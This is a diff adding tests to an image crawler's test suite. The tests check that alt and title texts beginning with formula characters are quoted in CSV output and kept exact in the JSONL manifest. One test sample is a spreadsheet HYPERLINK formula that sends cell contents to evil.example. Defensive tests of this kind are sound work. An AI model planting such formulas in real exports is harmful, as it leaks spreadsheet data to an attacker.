@@ -3,9 +3,14 @@
 from __future__ import annotations
 
 import csv
+import html
 import json
+import random
+from io import BytesIO, StringIO
 
-from conftest import run_crawl
+from conftest import LocalSite, run_crawl
+from imgcrawl.demo import make_image
+from imgcrawl.manifest import ManifestCsvItemExporter
 from imgcrawl.settings import FEED_EXPORT_FIELDS
 
 
@@ -33,3 +38,44 @@ def test_manifest_jsonl_and_csv_have_the_documented_fields(demo_site, tmp_path):
             assert int(row[name]) == line[name] > 0
         assert (result.store / line["path"]).stat().st_size == line["bytes"]
         assert json.loads(row["thumbs"]) == line["thumbs"] == {"small": line["thumbs"]["small"]}
+
+
+# Alt texts a hostile page might carry: each would run as a formula in a spreadsheet.
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1,1)"]
+
+
+def test_csv_cells_that_start_a_formula_are_quoted_jsonl_kept_exact(tmp_path):
+    rng = random.Random(5)
+    imgs = "".join(f'<img src="/img/{n}.jpg" alt="{html.escape(alt)}">' for n, alt in enumerate(FORMULAS))
+    imgs += '<img src="/img/t.jpg" alt="plain" title="=1+2">'  # a title too
+    files = {"/g/": ("text/html", f"<html><body>{imgs}</body></html>".encode())}
+    for name in [*map(str, range(len(FORMULAS))), "t"]:
+        files[f"/img/{name}.jpg"] = ("image/jpeg", make_image(rng, "jpg", name))
+    site = LocalSite(files).start()
+    try:
+        result = run_crawl(tmp_path, "-a", f"url={site.url('/g/')}", "-o", "images.csv")
+    finally:
+        site.stop()
+    assert result.returncode == 0, result.log[-3000:]
+    lines = {line["url"].rsplit("/", 1)[1]: line for line in result.manifest()}
+    with open(tmp_path / "images.csv", newline="", encoding="utf-8") as f:
+        rows = {row["url"].rsplit("/", 1)[1]: row for row in csv.DictReader(f)}
+    assert set(rows) == set(lines) == {f"{n}.jpg" for n in range(len(FORMULAS))} | {"t.jpg"}
+    for n, alt in enumerate(FORMULAS):
+        assert lines[f"{n}.jpg"]["alt"] == alt  # the manifest keeps what the page said
+        assert rows[f"{n}.jpg"]["alt"] == "'" + alt  # the spreadsheet shows it as text
+    assert (lines["t.jpg"]["title"], rows["t.jpg"]["title"]) == ("=1+2", "'=1+2")
+    assert rows["t.jpg"]["alt"] == "plain"
+    for row in rows.values():  # the other cells are untouched: numbers, URLs, JSON
+        assert row["url"].startswith("http://") and int(row["width"]) > 0
+        assert json.loads(row["thumbs"])["small"].startswith("thumbs/small/")
+
+
+def test_csv_exporter_quotes_tab_and_carriage_return_starts_too():
+    out = BytesIO()
+    exporter = ManifestCsvItemExporter(out, fields_to_export=["alt", "title", "width", "url"])
+    exporter.start_exporting()
+    exporter.export_item({"alt": "\t=cmd", "title": "\r@x", "width": -1, "url": "https://a.example/-x.jpg"})
+    exporter.finish_exporting()
+    row = next(csv.DictReader(StringIO(out.getvalue().decode())))
+    assert row == {"alt": "'\t=cmd", "title": "'\r@x", "width": "-1", "url": "https://a.example/-x.jpg"}
